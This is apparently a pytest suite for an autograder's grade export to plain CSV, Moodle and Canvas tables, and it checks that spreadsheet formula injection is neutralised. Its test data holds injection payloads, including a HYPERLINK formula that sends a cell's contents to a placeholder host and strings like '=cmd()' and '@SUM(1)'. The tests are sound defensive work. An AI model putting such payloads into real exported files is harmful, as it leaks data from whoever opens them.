"""Marks leave as tables that a spreadsheet or platform reads as what they are; what is not final is left empty."""

import csv
import datetime
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from graded_course import gradebook, mark, released_course
from marked_class import graded, without_essay
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from nbgrader.plugins.export import ExportPlugin
from small_course import ASSIGNMENT, make_course
from typer.testing import CliRunner

from autograder.cli import app
from autograder.course import Course, CourseError
from autograder.export import COLUMNS, Exported, Mark, SafeCsv, safe_cell
from autograder.export import export as write_table
from autograder.marks import record
from autograder.records import PartResult

HOSTILE = '=HYPERLINK("http://x/?"&A1,"me")'


def fill(book: Gradebook) -> None:
    """Two students, one of them hostile and with a hand-in, and an assignment of six points."""
    book.add_assignment(ASSIGNMENT, duedate=datetime.datetime(2026, 1, 2, 3, 4))
    book.add_notebook(ASSIGNMENT, ASSIGNMENT)
    book.add_grade_cell("double_test", ASSIGNMENT, ASSIGNMENT, max_score=6, cell_type="code")
    book.add_student("-2+3", first_name=HOSTILE, last_name="O'Neil,\r\n\t@SUM(1)", email="+a@x.org")
    book.add_student("honest", first_name="Änne", last_name="van der -Berg")
    book.add_submission(ASSIGNMENT, "-2+3", timestamp=datetime.datetime(2026, 1, 1))
    book.find_grade("double_test", ASSIGNMENT, ASSIGNMENT, "-2+3").auto_score = 4.5
    book.db.commit()


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.fixture
def course(tmp_path: Path) -> Course:
    course = make_course(tmp_path / "course")
    course.config()  # nbgrader makes a gradebook with a program that the configuration finds
    with gradebook(course) as book:
        fill(book)
    return course


@pytest.fixture
def book(course: Course) -> Iterator[Gradebook]:
    with gradebook(course) as opened:
        yield opened


def export(plugin: ExportPlugin, book: Gradebook, path: Path) -> list[dict[str, str]]:
    plugin.to = str(path)
    plugin.export(book)
    return read(path)


def test_no_cell_of_the_table_is_a_formula(book: Gradebook, tmp_path: Path) -> None:
    rows = export(SafeCsv(), book, tmp_path / "marks.csv")
    hostile = next(row for row in rows if "2+3" in row["student_id"])
    assert hostile["student_id"] == "'-2+3"
    assert hostile["first_name"] == f"'{HOSTILE}"
    assert hostile["last_name"] == "O'Neil,   @SUM(1)"
    assert hostile["email"] == "'+a@x.org"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_columns_and_honest_values_are_those_of_nbgraders_own_export(book: Gradebook, tmp_path: Path) -> None:
    book.update_or_create_student("-2+3", first_name="Eve", last_name="Doe", email="e@x.org")
    ours = export(SafeCsv(), book, tmp_path / "ours.csv")
    theirs = export(CsvExportPlugin(), book, tmp_path / "theirs.csv")
    assert list(ours[0]) == list(theirs[0]) == list(COLUMNS)
    assert [{**row, "student_id": row["student_id"].removeprefix("'")} for row in ours] == theirs
    assert (ours[0]["score"], ours[0]["max_score"]) == ("4.5", "6.0")


def test_numbers_stay_numbers_and_are_not_quoted(book: Gradebook, tmp_path: Path) -> None:
    export(SafeCsv(), book, tmp_path / "marks.csv")
    lines = (tmp_path / "marks.csv").read_text().splitlines()
    assert lines[1].endswith(",4.5,0.0,4.5,6.0")
    assert safe_cell(-1.5) == -1.5


def test_students_and_assignments_can_be_chosen(book: Gradebook, tmp_path: Path) -> None:
    assert [row["student_id"] for row in export(SafeCsv(student=["honest"]), book, tmp_path / "a.csv")] == ["honest"]
    assert export(SafeCsv(assignment=["other"]), book, tmp_path / "b.csv") == []


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1"])
def test_a_text_that_a_spreadsheet_would_calculate_becomes_text(text: str) -> None:
    cell = safe_cell(text)
    assert cell.startswith("'")
    assert cell.isprintable()


def test_the_command_of_nbgrader_takes_it_from_the_course(course: Course, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "nbgrader", "export", "--to", str(tmp_path / "marks.csv")]
    done = subprocess.run(command, cwd=course.root, env=dict(os.environ), capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "'-2+3" in {row["student_id"] for row in read(tmp_path / "marks.csv")}


# --- `coursework export`


ROSTER = """\
id,last_name,first_name,email,lms_id,username,section
done,Lovelace,Ada,ada@x.org,11,ada,A
waits,Byron,Anne,anne@x.org,12,anne,A
never,Null,Nick,nick@x.org,13,nick,B
later,Late,Lou,lou@x.org,14,lou,B
new,Neu,Nele,nele@x.org,15,nele,B
"""


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Course:
    """A class in which every kind of mark occurs; its marks by hand are given."""
    course = released_course(tmp_path_factory.mktemp("template"))
    (course.root / "roster.csv").write_text(ROSTER)
    configure(
        course,
        'c.Coursework.roster = "roster.csv"',
        f'c.Coursework.deadlines = {{"{ASSIGNMENT}": "2026-03-01 12:00"}}',
        "c.Coursework.late_penalty = 2",
    )
    take(course, "done", 3.0, 2.0)
    take(course, "waits", 4.0, 2.0)
    take(course, "later", 4.0, 2.0, when="2026-03-01 13:00:00 UTC")
    take(course, "stray", 4.0, 2.0)
    graded(course, "new")  # handed in, and never recorded
    assert record(course, *without_essay(course, "blank")) == []
    for student in ("done", "later", "stray"):
        mark(course, student, "essay", points=5.0)
    mark(course, "done", "essay", comment="=well\nargued <b>")
    return course


def configure(course: Course, *lines: str) -> None:
    with (course.root / "nbgrader_config.py").open("a") as file:
        file.write("\n".join(["", *lines, ""]))


def take(course: Course, student: str, double: float, halve: float, when: str = "2026-03-01 10:00:00 UTC") -> None:
    job, verdict = graded(course, student, double, halve, when)
    if student == "done":
        lost = "double(3): expected 6, got <3>. Is x added?"
        verdict.exercises[0].parts = [PartResult(name, 0.25, 0.5, lost) for name in ("sizes", "signs")]
        store_again(course, job, verdict)
    assert record(course, job, verdict) == []


def store_again(course: Course, job: object, verdict: object) -> None:
    from autograder.grade import verdict_file

    verdict_file(course, ASSIGNMENT, "done").write_text(verdict.to_json())  # type: ignore[attr-defined]


@pytest.fixture
def taught(template: Course, tmp_path: Path) -> Course:
    return Course(shutil.copytree(template.root, tmp_path / "taught"))


def exported(course: Course, kind: str, path: Path, **options: object) -> tuple[Exported, list[list[str]]]:
    found = write_table(course, [ASSIGNMENT], kind, path, **options)  # type: ignore[arg-type]
    with path.open(newline="", encoding="utf-8") as file:
        return found, list(csv.reader(file))


def test_a_mark_that_is_not_final_is_said_and_left_empty(taught: Course, tmp_path: Path) -> None:
    found, _ = exported(taught, "csv", tmp_path / "a.csv")
    marks = {made.student: (made.status, made.points) for made in found.marks}
    assert marks == {
        "done": ("graded", 10.0),
        "later": ("graded", 9.0),  # two points off for a started day
        "stray": ("graded", 11.0),
        "blank": ("graded", 3.5),  # an untouched written answer needs nobody
        "waits": ("waiting", None),
        "new": ("ungraded", None),
        "never": ("missing", 0.0),
    }
    assert f"{ASSIGNMENT}: 1 wait for marks by hand and are left empty: waits" in found.notes
    assert any("1 were handed in and not graded" in note and note.endswith(": new") for note in found.notes)
    assert f"{ASSIGNMENT}: 1 handed in nothing and have 0: never" in found.notes


def test_a_hand_in_that_came_after_grading_withdraws_the_mark(taught: Course, tmp_path: Path) -> None:
    path = taught.submitted / "done" / ASSIGNMENT / "timestamp.txt"
    path.write_text("2026-03-01 11:00:00 UTC")
    found, _ = exported(taught, "csv", tmp_path / "a.csv")
    assert next(made for made in found.marks if made.student == "done").status == "outdated"
    assert any("handed in again since" in note and note.endswith(": done") for note in found.notes)


@pytest.mark.parametrize(
    ("chosen", "deadline", "expected"),
    [
        ("", "2026-03-01 12:00", 0.0),
        ("", "2999-03-01 12:00", None),
        ("", None, None),
        ("zero", "2999-03-01 12:00", 0.0),
        ("empty", "2026-03-01 12:00", None),
    ],
)
def test_nothing_handed_in_is_zero_once_the_deadline_has_passed(
    taught: Course, tmp_path: Path, chosen: str, deadline: str | None, expected: float | None
) -> None:
    configure(taught, f"c.Coursework.deadlines = {{{ASSIGNMENT!r}: {deadline!r}}}")
    found, _ = exported(taught, "csv", tmp_path / "a.csv", missing=chosen)
    assert next(made for made in found.marks if made.student == "never").points == expected


def test_the_plain_table_has_nbgraders_columns_and_more(taught: Course, tmp_path: Path) -> None:
    _, rows = exported(taught, "csv", tmp_path / "a.csv", percent=True)
    assert rows[0] == [*COLUMNS, "percent", "section", "status"]
    found = {row[3]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    late = found["later"]
    assert [late[name] for name in ("raw_score", "late_submission_penalty", "score", "max_score", "percent")] == [
        "11.0",
        "2.0",
        "9.0",
        "12.0",
        "75.0",
    ]
    assert (late["duedate"], late["timestamp"]) == ("2026-03-01 12:00:00", "2026-03-01 13:00:00")
    assert (found["waits"]["raw_score"], found["waits"]["score"]) == ("", "")


def test_moodles_table_has_grade_and_feedback_for_the_students_on_the_roster(taught: Course, tmp_path: Path) -> None:
    configure(taught, f'c.Coursework.platform_names = {{"{ASSIGNMENT}": "Sums, and floats"}}')
    found, rows = exported(taught, "moodle", tmp_path / "a.csv", feedback=True)
    assert rows[0] == [
        "First name",
        "Last name",
        "ID number",
        "Email address",
        "Assignment: Sums, and floats",
        "Feedback: Sums, and floats",
    ]
    marks = {row[2]: row[4] for row in rows[1:]}
    assert marks == {"done": "10.0", "waits": "", "never": "0.0", "later": "9.0", "new": ""}
    assert "not on the roster, and left out: blank, stray" in found.notes
    said = {row[2]: row[5] for row in rows[1:]}
    assert said["done"] == (
        "double: 3 of 4 - double(3): expected 6, got &lt;3&gt;. Is x added?"
        " | halve: 2 of 2 | essay: 5 of 6 - Comment: =well argued &lt;b&gt;"
    )
    assert said["later"].endswith("| Handed in late: 2 points taken off")
    assert said["waits"] == ""


def test_canvas_table_has_the_row_of_points_and_its_ids(taught: Course, tmp_path: Path) -> None:
    _, rows = exported(taught, "canvas", tmp_path / "a.csv")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT]
    assert rows[1] == ["    Points Possible", "", "", "", "", "12.0"]
    assert rows[2] == ["Byron, Anne", "12", "", "anne", "A", ""]
    assert ["Lovelace, Ada", "11", "", "ada", "A", "10.0"] in rows
    _, rows = exported(taught, "canvas", tmp_path / "b.csv", percent=True)
    assert ["Lovelace, Ada", "11", "", "ada", "A", "83.33%"] in rows
    with pytest.raises(CourseError, match="imports no comments"):
        exported(taught, "canvas", tmp_path / "c.csv", feedback=True)


WORKSHEET = (
    'Identifier,"Full name","Email address",Status,Grade,"Maximum Grade","Grade can be changed",'
    '"Last modified (submission)","Last modified (grade)","Feedback comments"\n'
    'Participant 7,"Ada Lovelace",ada@x.org,"Submitted for grading",,12.00,Yes,"Sunday, 1 March 2026, 10:00 AM",-,\n'
    'Participant 8,"Anne Byron",,"Submitted for grading",,12.00,No,"Sunday, 1 March 2026, 10:00 AM",-,kept\n'
    'Participant 9,"Nobody Known",no@x.org,"No submission",,12.00,Yes,-,-,\n'
)


def test_moodles_worksheet_is_filled_in(taught: Course, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(WORKSHEET)
    found, rows = exported(taught, "moodle", tmp_path / "a.csv", feedback=True, worksheet=sheet)
    before = list(csv.reader(WORKSHEET.splitlines()))
    assert rows[0] == before[0]
    assert [row[:4] for row in rows] == [row[:4] for row in before]
    assert [row[4] for row in rows[1:]] == ["10.00", "", ""]
    assert rows[1][9].startswith("double: 3 of 4")
    assert rows[2][9] == "kept"
    assert "Participant 9, Nobody Known, leads to nobody here" in found.notes
    assert "waits: Moodle lets nobody change this grade" in found.notes
    assert "not in the worksheet: later, never, new" in found.notes


def test_another_maximum_in_moodle_is_refused(taught: Course, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(WORKSHEET.replace("12.00", "100.00"))
    with pytest.raises(CourseError, match="worth 100 in Moodle and 12 here: give --percent"):
        exported(taught, "moodle", tmp_path / "a.csv", worksheet=sheet)
    assert not (tmp_path / "a.csv").exists()
    _, rows = exported(taught, "moodle", tmp_path / "a.csv", worksheet=sheet, percent=True)
    assert rows[1][4] == "83.33"


def test_the_command_writes_table_and_list_and_works_penalties_out_anew(taught: Course, tmp_path: Path) -> None:
    configure(taught, "c.Coursework.late_penalty = 3")
    arguments = ["export", "--course", str(taught.root), "--json", str(tmp_path / "marks.json"), "--percent"]
    done = CliRunner().invoke(app, arguments)
    assert done.exit_code == 0, done.output
    assert (taught.root / "grades-csv.csv").stat().st_mode & 0o077 == 0  # marks are nobody else's to read
    marks = {row["student"]: row for row in json.loads((tmp_path / "marks.json").read_text())}
    assert (marks["later"]["points"], marks["later"]["percent"]) == (8.0, pytest.approx(66.67))


@pytest.mark.parametrize(
    "arguments", [["--format", "excel"], ["--missing", "none"], ["--worksheet", "x.csv"], ["nothing"]]
)
def test_wrong_usage_ends_with_2(taught: Course, arguments: list[str]) -> None:
    done = CliRunner().invoke(app, ["export", "--course", str(taught.root), *arguments])
    assert isinstance(done.exception, CourseError)
    assert done.exception.exit_code == 2


def test_a_hostile_name_is_no_formula_in_any_table(taught: Course, tmp_path: Path) -> None:
    with gradebook(taught) as book:
        book.update_or_create_student("done", first_name=HOSTILE, last_name="@x")
    (taught.root / "roster.csv").write_text(ROSTER.replace("Lovelace,Ada", "@x,=cmd()"))
    for kind in ("csv", "moodle", "canvas"):
        _, rows = exported(taught, kind, tmp_path / f"{kind}.csv", **({} if kind == "canvas" else {"feedback": True}))
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_per_cent_of_nothing_is_nothing() -> None:
    assert Mark("s", "a", "graded", 0.0, 1.0).percent is None
